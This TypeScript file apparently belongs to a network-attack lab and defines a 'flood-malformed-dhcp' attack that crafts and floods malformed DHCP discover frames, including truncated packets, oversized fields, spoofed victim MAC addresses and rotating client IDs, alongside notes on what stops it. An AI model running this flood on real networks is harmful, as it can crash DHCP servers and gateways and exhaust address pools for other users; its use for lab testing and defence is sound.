// SPDX-License-Identifier: Apache-2.0
import { broadcast, bytes, concat, ethernet, hex, ip, mac } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { flooded, uncheckedUdp, type Scene, type Wave } from "../flooding.ts";

const COOKIE = hex("63825363");
const DISCOVER = bytes(53, 1, 1);
const CLIENT_ID = 61;
/** Of the frame: after Ethernet, IPv4 and UDP. */
const DHCP = 42;
const [TRANSACTION, CHADDR, OPTIONS] = [DHCP + 6, DHCP + 32, DHCP + 240];

export function waves({ attacker, victim }: Scene): Wave[] {
  const fixed = (hardwareLength: number, chaddr: string): Uint8Array =>
    concat([bytes(1, 1, hardwareLength, 0), hex("12340000"), new Uint8Array(4), ip("0.0.0.0"), ip("0.0.0.0"), ip("0.0.0.0"), ip("0.0.0.0"), mac(chaddr), new Uint8Array(10 + 64 + 128)]);
  const sends = (message: Uint8Array): Uint8Array => ethernet({ from: attacker.mac, to: broadcast }, 0x0800, uncheckedUdp("0.0.0.0", "255.255.255.255", { from: 68, to: 67 }, message));
  const options = (...all: Uint8Array[]): Uint8Array => sends(concat([fixed(6, attacker.mac), COOKIE, ...all]));
  return [
    { what: "cut short", frame: sends(fixed(6, attacker.mac).subarray(0, 100)), countingAt: TRANSACTION },
    { what: "hardware addresses of 255 bytes", frame: sends(concat([fixed(255, attacker.mac), COOKIE, DISCOVER, bytes(255)])), countingAt: TRANSACTION },
    { what: "an option longer than the message", frame: options(DISCOVER, bytes(12, 200, 65)), countingAt: TRANSACTION },
    { what: "options without end", frame: options(...new Array<Uint8Array>(100).fill(DISCOVER)), countingAt: TRANSACTION },
    { what: "requests in the name of others", frame: sends(concat([fixed(6, victim.mac), COOKIE, DISCOVER, bytes(255)])), countingAt: CHADDR + 4 },
    { what: "ever new clients", frame: options(DISCOVER, bytes(CLIENT_ID, 7, 0, 1, 2, 3, 4, 0, 0), bytes(255)), countingAt: OPTIONS + DISCOVER.length + 7 },
  ];
}

export const floodMalformedDhcp: Attack = {
  slug: "flood-malformed-dhcp",
  needs: "a place on the network",
  gains: "every station receives each of them; a server or gateway that reads them may fail; a server has an address set aside for each new client",
  stoppedBy: "requests go to the uplink only, after the gateway has read them; a meter for each device; a device that has its share of leases asks in vain for more",
  takesVictim: true,
  run: (field) => flooded(field, waves(field)),
};
